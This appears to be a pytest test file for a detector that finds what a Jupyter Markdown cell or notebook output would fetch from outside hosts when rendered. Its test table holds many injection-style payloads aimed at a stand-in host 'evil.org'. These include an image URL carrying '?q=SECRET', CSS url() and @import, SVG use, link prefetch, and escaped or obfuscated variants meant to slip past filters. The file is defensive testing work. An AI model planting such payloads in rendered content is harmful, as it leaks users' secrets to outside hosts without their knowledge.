"""What a Markdown cell loads when a page shows it, and what it may hold without a question."""

from __future__ import annotations

import json
from typing import Any

import pytest

from jupyter_eca.workspace.notebooks.loaded_content import find_loaded, find_loaded_in_file
from tests.support.steps import grows_with_its_text

LOADS = {
    "![](http://evil.org/a?q=SECRET)": "http://evil.org/a?q=SECRET",
    "![a](//evil.org/a)": "//evil.org/a",
    "![a]( <https://evil.org/a b> 'title')": "https://evil.org/a b",
    "![a](\\\\evil.org/a)": "\\\\evil.org/a",
    "![a](&#47;&#47;evil.org)": "&#47;&#47;evil.org",
    "![a][b]\n\n[b]: https://evil.org": "https://evil.org",
    "![b]\n\n> [b]:\n> https://evil.org": ">",
    "![a\\](a.png) ](https://evil.org)": "an image with https://evil.org",
    "![a`](a.png)`](https://evil.org)": "an image with https://evil.org",
    "![a $](a.png)$](https://evil.org)": "an image with https://evil.org",
    "![a [b]](https://evil.org)": "an image with https://evil.org",
    "[![a](https://evil.org/badge.svg)](b.md)": "https://evil.org/badge.svg",
    "`![](https://evil.org)`": "https://evil.org",
    "<img src=https://evil.org/a>": "https://evil.org/a",
    "<IMG\nalt='>' SRC = 'https://evil.org/a'>": "https://evil.org/a",
    "<img/src=//evil.org>": "//evil.org",
    '<img srcset="https://evil.org 2x">': "https://evil.org 2x",
    f'<img srcset="a.png?{"a" * 2100}, https://evil.org 2x">': "a.png?",
    "```\u00a0mermaid\nA@{ img: 'x' }": "a Mermaid diagram",
    "```\ufeffmermaid\nA@{ img: 'x' }": "a Mermaid diagram",
    "   ```mermaid\nA@{ img: 'x' }": "a Mermaid diagram",
    '<p title="<img src=" src=x>': "",
    '<video poster="ftp://evil.org/a">': "ftp://evil.org/a",
    '<td background="//evil.org/a">': "//evil.org/a",
    '<p style="background: url(//evil.org/a)">': "a style with //evil.org/a",
    '<p style="background: u\\72l(x)">': "a style",
    '<p title=\'a" style="\' style="background: u\\72l(x)">': "a style",
    '<p style="a: b\n\n" c>': "a style",
    f"<p style={'a:b;' * 600}background:url(//evil.org/a)>": "a style",
    "<iframe srcdoc='x'>": "<iframe>",
    "<svg><use href='https://evil.org/a'/></svg>": "<svg> with https://evil.org/a",
    "<style>@import 'https://evil.org/a'</style>": "<style> with https://evil.org/a",
    "<!-- --><link rel=prefetch href=//evil.org>": "<link> with //evil.org",
    "```mermaid\ngraph TD\nA[<img src='https://evil.org/a'>]\n```": "https://evil.org/a",
    "~~~ mermaid\nA@{ img: 'x' }": "a Mermaid diagram",
    "> ```mermaid\n> A[#lt;b#gt;]": "a Mermaid diagram",
    '```mermaid\n%%{init: {"themeCSS": "x"}}%%\n```': "a Mermaid diagram",
    "```mermaid\nstyle A fill:#f9f; B[#60;b]\n```": "a Mermaid diagram",
    f"```{' ' * 40}mermaid\nA[#lt;b#gt;]": "a Mermaid diagram",
    "```mermaid\nA[\"\n    ```\n\"]\nB@{ img: 'x' }\n```": "a Mermaid diagram",
    "```mermaid\nA[\"\n```b\n\"]\nB@{ img: 'x' }\n```": "a Mermaid diagram",
    "```mermaid\nA[\"\n> ```\n\"]\nB@{ img: 'x' }\n```": "a Mermaid diagram",
    "```mermaid\nA@{ label: &k img, *k : 'x' }\n```": "a Mermaid diagram",
    "```mermaid\nA@{ ? img #\n: 'x' }\n```": "a Mermaid diagram",
    "```mermaid\nclassDef x background: image-set('x' 1x)\n```": "a Mermaid diagram",
    "```mermaid\nclassDef x background: u\\rl(\\/\\/evil.org)\n```": "a Mermaid diagram",
    "> ```mermaid\n> ---\n> config: x\n> ---\n> ```": "a Mermaid diagram",
    "$\\style{background: x}{y}$": "a formula with \\style",
    f"$\\bbox[{'a:b;' * 100}background:url(x)]{{y}}$": "a formula with \\bbox",
}
HARMLESS = [
    f'<img src="data:image/png;base64,{"A" * 3000}">',
    "# Results\n\nSee [the page](https://example.org) and <https://example.org>, or me@example.org.",
    "https://example.org is 5 < 6 & wow! [x] = 3",
    "![plot](plot.png) ![Fig. (a)](images/plöt%201.png 'A plot') ![a](attachment:image.png)",
    "![a](<my plot.png>)",
    "![a](data:image/png;base64,iVBORw0KGgo=)",
    "![a][b]\n\n[b]: plot.png",
    "[a][b]\n\n[b]: https://example.org",
    "Note![1] that this is [a link](https://example.org).",
    '<img src="plot.png" width="50">',
    "<img src='data:image/png;base64,iVBORw0KGgo='>",
    '<div class="alert" style="color: red; width: 50%"><a href="https://example.org">a</a></div>',
    "$i <n$ and $\\alpha \\bbox[yellow]{x}$",
    "```python\nx = '<b>'\n```",
    "```mermaid\nflowchart LR\nA[Load the image] --> B & C\nB -->|yes<br/>or no| D\nstyle A fill:#f9f;\n```",
    "```mermaid\nflowchart LR\nA[an img] --> B[two\\nlines]\nB@{ shape: rounded }\n```\n\n[a](https://example.org)",
    "- a\n\n  ```mermaid\n  graph TD\n  A --> B\n  ```\n\n  [a](https://example.org)",
    "```mermaid\nclassDiagram\nAnimal <|-- Duck\nclass Duck {\n<<interface>>\n}\n```",
]


@pytest.mark.parametrize("source", LOADS)
def test_what_a_cell_would_load_is_found_and_named(source: str) -> None:
    assert (found := find_loaded(f"Text\n\n{source}\n\nmore")) is not None
    assert LOADS[source] in found


@pytest.mark.parametrize("source", HARMLESS)
def test_a_cell_that_loads_nothing_from_elsewhere_is_ordinary(source: str) -> None:
    assert find_loaded(source) is None


def test_what_the_cell_loaded_before_does_not_count() -> None:
    before = "![a](https://example.org/a.png)\n\n<svg></svg>"
    assert find_loaded(f"# Title\n\n{before.partition(chr(10))[0]}", before) is None
    assert (
        find_loaded(before.replace("a.png", "b.png"), before)
        == "https://example.org/b.png, <svg> with https://example.org/b.png"
    )


def test_many_addresses_and_long_ones_are_cut() -> None:
    assert find_loaded("\n".join(f"![](https://evil.org/{number})" for number in range(7))) == (
        ", ".join([*(f"https://evil.org/{number}" for number in range(5)), "2 more"])
    )
    assert find_loaded(f"![](https://evil.org/{'x' * 1000})") == f"https://evil.org/{'x' * 183}…"


@pytest.mark.parametrize(
    "piece",
    [
        "![",
        "<b style=",
        "src=",
        "<a ",
        "[a]: ",
        "```mermaid\n",
        "\\bbox[",
        "![](",
        "![]( ",
        "a",
        "`",
        "\n",
        " ",
        "#a",
        "http:",
        "style ",
        "```mermaid\nstyle a\n",
        "@{ ",
        "```mermaid\n @{ \n",
        "\n   ```",
    ],
)
def test_a_cell_of_twice_the_length_takes_about_twice_the_steps(piece: str) -> None:
    # Of the value of an attribute the first 2,000 characters are read, so only longer cells show how it grows.
    count = 600 if piece == "src=" else 50
    assert grows_with_its_text(lambda text: find_loaded(f"<b>{text}!"), piece, count)


PICTURE = "![](https://evil.org/a)"
FILES: list[tuple[dict[str, Any], str | None]] = [
    ({"cells": [{"cell_type": "markdown", "source": PICTURE}], "nbformat": 4}, "https://evil.org/a"),
    ({"cells": [{"cell_type": "markdown", "source": ["![](ht", "tps://evil.org/a)"]}]}, "https://evil.org/a"),
    ({"cells": [{"outputs": [{"data": {"text/html": ["<img src=//evil.org/a>"]}}]}]}, "//evil.org/a"),
    ({"worksheets": [{"cells": [{"cell_type": "heading", "source": PICTURE}]}], "nbformat": 3}, "https://evil.org/a"),
    ({"cells": [{"cell_type": "markdown", "source": ["# Title\n", "[a](https://example.org)"]}]}, None),
    ({"cells": [{"cell_type": "code", "source": "x = 1 < 2"}], "metadata": {"kernelspec": {"name": "python3"}}}, None),
]


@pytest.mark.parametrize(("book", "found"), FILES)
def test_what_a_notebook_file_would_load_is_found_in_its_cells_and_outputs(
    book: dict[str, Any], found: str | None
) -> None:
    assert find_loaded_in_file(json.dumps(book)) == found


@pytest.mark.parametrize("text", ["", "{", PICTURE, "[" * 100_000])
def test_a_file_that_jupyter_cannot_open_loads_nothing(text: str) -> None:
    assert find_loaded_in_file(text) is None
